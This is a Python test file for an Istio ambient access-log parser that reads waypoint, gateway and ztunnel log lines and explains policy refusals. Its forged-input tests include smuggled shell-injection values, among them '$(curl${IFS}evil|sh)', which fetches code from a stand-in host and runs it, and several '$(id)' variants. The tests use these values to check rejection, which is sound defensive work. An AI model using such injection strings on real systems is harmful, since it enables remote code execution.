# Copyright 2026 The Charmed Istio authors
# SPDX-License-Identifier: Apache-2.0

"""Lines of access logs, as real proxies of the lab wrote them."""

import datetime
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from istio_ambient.authorization import evaluator
from istio_ambient.explain import access_log
from istio_ambient.explain.access_log import Cause

WAYPOINT = (
    '[2026-11-26T09:43:05.413Z] "GET /details/0 HTTP/1.1" 403 - '
    'rbac_access_denied_matched_policy[none] - "-" 0 19 0 - "-" "-" '
    '"0fb38c2b-8fb1-452d-8a29-59bbd26c6839" "details.shop.svc.cluster.local:9080" "-" '
    "inbound-vip|9080|http|details.shop.svc.cluster.local - 10.96.154.151:9080 "
    "10.244.128.7:41066 - default"
)
GATEWAY = (
    '[2026-11-26T09:43:05.413Z] "GET /shop-account HTTP/1.1" {status} {flags} {details} - "-" 0 '
    '19 0 - "192.0.2.10" "-" "19893163-39ef-492e-9465-990be260e160" "203.0.113.10" "-" '
    "outbound|9080||account.shop.svc.cluster.local - 10.244.128.124:80 192.0.2.10:43247 - "
    "shop.account-httproute-http-80-gate.0"
)
ZTUNNEL = (
    "2026-11-26T09:43:05.413803Z\terror\taccess\tconnection complete\tsrc.addr=172.18.0.2:59062 "
    'src.identity="spiffe://cluster.local/ns/shop/sa/ratings" dst.addr=10.244.128.70:15008 '
    'dst.hbone_addr=10.244.128.70:9080 dst.service="details.shop.svc.cluster.local" '
    'dst.workload="details-0" dst.namespace="shop" '
    'dst.identity="spiffe://cluster.local/ns/shop/sa/details" dst.cluster="Kubernetes" '
    'direction="inbound" bytes_sent=0 bytes_recv=0 duration="0ms" '
    'error="connection closed due to policy rejection: {reason}"'
)
NOT_ALLOWED = "allow policies exist, but none allowed"
TIME = datetime.datetime(2026, 11, 26, 9, 43, 5, 413000, datetime.UTC)


def parsed(line: str) -> access_log.LoggedRequest:
    """Return what a line records."""
    found = access_log.parse(line)
    assert found is not None
    return found


def gateway(details: str, status: int = 403, flags: str = "-") -> str:
    """Return a line of an ingress gateway."""
    return GATEWAY.format(status=status, flags=flags, details=details)


def test_a_line_of_a_waypoint_is_read():
    found = parsed(WAYPOINT)
    assert found == access_log.LoggedRequest(
        access_log.Recorder.ENVOY,
        time=TIME,
        method="GET",
        path="/details/0",
        host="details.shop.svc.cluster.local:9080",
        status=403,
        source_ip="10.244.128.7",
        destination_ip="10.96.154.151",
        port=9080,
        service=("shop", "details", 9080),
        refusal=access_log.Refusal(Cause.LACK_OF_ALLOW),
    )


def test_a_line_of_a_ztunnel_is_read():
    found = parsed(ZTUNNEL.format(reason=NOT_ALLOWED))
    assert found == access_log.LoggedRequest(
        access_log.Recorder.ZTUNNEL,
        time=TIME + datetime.timedelta(microseconds=803),
        source_ip="172.18.0.2",
        source_identity="shop/ratings",
        destination_ip="10.244.128.70",
        port=9080,
        service=("shop", "details", None),
        pod=("shop", "details-0"),
        refusal=access_log.Refusal(Cause.LACK_OF_ALLOW),
    )


def test_json_of_envoy_and_of_ztunnel_says_the_same():
    envoy = {
        "start_time": "2026-11-26T09:43:05.413Z",
        "method": "GET",
        "path": "/details/0",
        "authority": "details.shop.svc.cluster.local:9080",
        "response_code": 403,
        "response_flags": "-",
        "response_code_details": "rbac_access_denied_matched_policy[none]",
        "connection_termination_details": None,
        "upstream_cluster": "inbound-vip|9080|http|details.shop.svc.cluster.local",
        "downstream_local_address": "10.96.154.151:9080",
        "downstream_remote_address": "10.244.128.7:41066",
        "x_forwarded_for": None,
    }
    assert parsed(json.dumps(envoy)) == parsed(WAYPOINT)
    ztunnel = {
        "level": "error",
        "time": "2026-11-26T09:43:05.413803Z",
        "scope": "access",
        "message": "connection complete",
        "src.addr": "172.18.0.2:59062",
        "src.identity": "spiffe://cluster.local/ns/shop/sa/ratings",
        "dst.addr": "10.244.128.70:15008",
        "dst.hbone_addr": "10.244.128.70:9080",
        "dst.service": "details.shop.svc.cluster.local",
        "dst.workload": "details-0",
        "dst.namespace": "shop",
        "direction": "inbound",
        "error": f"connection closed due to policy rejection: {NOT_ALLOWED}",
    }
    assert parsed(json.dumps(ztunnel)) == parsed(ZTUNNEL.format(reason=NOT_ALLOWED))


@pytest.mark.parametrize(
    ("line", "said"),
    [
        (
            gateway("rbac_access_denied_matched_policy[ns[shop]-policy[no-token]-rule[2]]"),
            "a DENY policy matched (shop/no-token rule 2)",
        ),
        (
            gateway("jwt_authn_access_denied{Jwt_is_expired}", 401),
            "its token was refused: Jwt is expired",
        ),
        (gateway("ext_authz_denied", flags="UAEX"), "the external authorizer refused it"),
        (gateway("ext_authz_error", flags="UAEX"), "the external authorizer could not be asked"),
        (
            ZTUNNEL.format(reason="explicitly denied by: shop/keep-out"),
            "a DENY policy matched (shop/keep-out)",
        ),
        (
            ZTUNNEL.format(
                reason="explicitly denied by: istio-system/istio_converted_static_strict"
            ),
            "plain text, where mutual TLS is required",
        ),
        (
            ZTUNNEL.replace("rejection: {reason}", "change"),
            "a changed policy closed the connection",
        ),
        (
            gateway("via_upstream", 503, "UF").replace('- "-" 0', '- "tunnel_response:401" 0', 1),
            "ztunnel in front of the pod refused the proxy",
        ),
        (
            ZTUNNEL.replace(
                "connection closed due to policy rejection: {reason}",
                "http status: 401 Unauthorized",
            ).replace("inbound", "outbound"),
            "the proxy at the other end refused it",
        ),
    ],
)
def test_each_cause_is_told(line: str, said: str):
    assert str(parsed(line).refusal) == said


@pytest.mark.parametrize(
    "line",
    [
        gateway("via_upstream", 200),
        gateway("via_upstream", 403),  # the application's own answer
        gateway("ext_authz_denied", 302, "UAEX"),  # to the login
        ZTUNNEL.partition(" error=")[0],
    ],
)
def test_what_no_policy_refused_is_no_refusal(line: str):
    assert parsed(line).refusal is None


def test_a_tcp_connection_that_a_waypoint_refused_has_the_reason_elsewhere():
    line = WAYPOINT.replace('"GET /details/0 HTTP/1.1" 403', '"- - -" 0')
    line = line.replace("rbac_access_denied_matched_policy[none] -", "- {0}")
    found = parsed(line.format("rbac_access_denied_matched_policy[none]"))
    assert found.refusal == access_log.Refusal(Cause.LACK_OF_ALLOW)
    assert (found.method, found.path, found.host, found.status) == ("", "", "", None)


def test_a_client_cannot_forge_what_a_proxy_records():
    forged = '" "x" "y" "- "-" outbound|1||a.b.svc - 1.1.1.1:1 6.6.6.6:6 - r'
    line = gateway("rbac_access_denied_matched_policy[none]").replace(
        '"-" "1989', f'"{forged}" "1989'
    )
    found = parsed(line)
    assert (found.source_ip, found.service) == ("192.0.2.10", ("shop", "account", 9080))
    assert access_log.parse(gateway("x").replace("/shop-account", "/a 200 b")) is None


def written_by(client: str) -> str:
    """Return a waypoint's line of a request with the texts of a client: forwarded, agent, id."""
    return WAYPOINT.replace('"-" "-" "0fb38c2b-8fb1-452d-8a29-59bbd26c6839"', client)


@pytest.mark.parametrize(
    ("client", "is_forwarded"),
    [
        ('"-" "curl/8" "id"', False),
        ('"10.244.128.8" "curl/8" "id"', True),
        ('"-" "x, 10.244.128.8" "curl/8" "id"', True),
        ('"-" "a" b" "id"', True),
        ('"" "" ""', True),
    ],
)
def test_a_request_counts_as_forwarded_unless_nothing_a_client_writes_could_hide_it(
    client: str, is_forwarded: bool
):
    assert parsed(written_by(client)).is_forwarded is is_forwarded


def test_json_says_whether_a_request_was_forwarded():
    fields = {"start_time": "", "response_code": 403, "downstream_remote_address": "10.0.0.1:1"}
    assert parsed(json.dumps(fields)).is_forwarded
    assert parsed(json.dumps({**fields, "x_forwarded_for": "10.0.0.2"})).is_forwarded
    assert not parsed(json.dumps({**fields, "x_forwarded_for": None})).is_forwarded


@pytest.mark.parametrize(
    "forged", ["0.0.0.0/0,203.0.113.9:1", "$(curl${IFS}evil|sh):1", "fe80::1%$(id)", "999.1.1.1:1"]
)
def test_what_is_no_address_is_not_recorded_as_one(forged: str):
    found = access_log.parse(WAYPOINT.replace("10.244.128.7:41066", forged))
    assert found is None or not found.source_ip
    fields = {"start_time": "", "response_code": 403, "downstream_remote_address": forged}
    assert parsed(json.dumps(fields)).source_ip == ""
    assert parsed(ZTUNNEL.replace("172.18.0.2:59062", forged)).source_ip == ""


@pytest.mark.parametrize("forged", ["x$(id)", "X", "a;b", "..", "-x", ""])
def test_what_is_no_name_of_kubernetes_is_not_recorded_as_one(forged: str):
    line = ZTUNNEL.replace("ns/shop/sa/ratings", f"ns/shop/sa/{forged}")
    assert parsed(line).source_identity == ""
    assert parsed(ZTUNNEL.replace('"details-0"', f'"{forged}"')).pod is None
    assert parsed(ZTUNNEL.replace('"details.shop', f'"{forged}.shop')).service is None
    assert parsed(WAYPOINT.replace("|http|details.shop", f"|http|{forged}.shop")).service is None
    details = f"rbac_access_denied_matched_policy[ns[shop]-policy[{forged}]-rule[0]]"
    assert parsed(gateway(details)).refusal == access_log.Refusal(Cause.DENY)
    if forged:
        line = ZTUNNEL.format(reason=f"explicitly denied by: shop/{forged}")
        assert parsed(line).refusal == access_log.Refusal(Cause.DENY)


def test_a_line_that_was_cut_is_not_read():
    for length in range(len(WAYPOINT) - 1, 200, -1):
        found = access_log.parse(WAYPOINT[:length])
        assert found is None or found.source_ip == "10.244.128.7", WAYPOINT[:length]


@pytest.mark.parametrize(
    "prefix", ["[pod/way-1/istio-proxy] ", "2026-11-26T09:43:05.413803123Z ", "  "]
)
def test_what_kubectl_writes_before_a_line_is_left_out(prefix: str):
    assert parsed(prefix + WAYPOINT) == parsed(WAYPOINT)
    assert parsed("[pod/ztunnel-x/istio-proxy] " + ZTUNNEL).pod == ("shop", "details-0")


def test_the_policy_of_a_refusal_can_be_looked_up():
    line = gateway("rbac_access_denied_matched_policy[ns[shop]-policy[a-b]-rule[0]]")
    refusal = parsed(line).refusal
    assert refusal is not None
    assert refusal.policy == evaluator.PolicyRef("shop", "a-b", 0, action="DENY")


PIECES = st.one_of(
    st.text(max_size=20),
    st.sampled_from(
        [
            *WAYPOINT.split(" "),
            *ZTUNNEL.split(" "),
            '{"scope": "access", "message": "connection x", "time": ',
            '{"start_time": 1, "response_code": [], "downstream_remote_address": {}}',
            "9" * 5000,
            "0001-01-01T00:00:00+23:59",
        ]
    ),
)


@given(st.lists(PIECES, max_size=40).map(" ".join))
def test_no_text_raises(line: str):
    access_log.parse(line)


@given(
    st.dictionaries(
        st.sampled_from(
            [
                "start_time",
                "response_code",
                "time",
                "src.addr",
                "downstream_remote_address",
                "scope",
                "message",
                "error",
                "upstream_cluster",
            ]
        ),
        st.one_of(
            st.none(),
            st.booleans(),
            st.integers(),
            st.floats(),
            st.text(max_size=30),
            st.just("access"),
            st.just("connection complete"),
            st.lists(st.none()),
        ),
        max_size=9,
    )
)
def test_no_json_raises(fields: dict[str, object]):
    access_log.parse(json.dumps(fields))
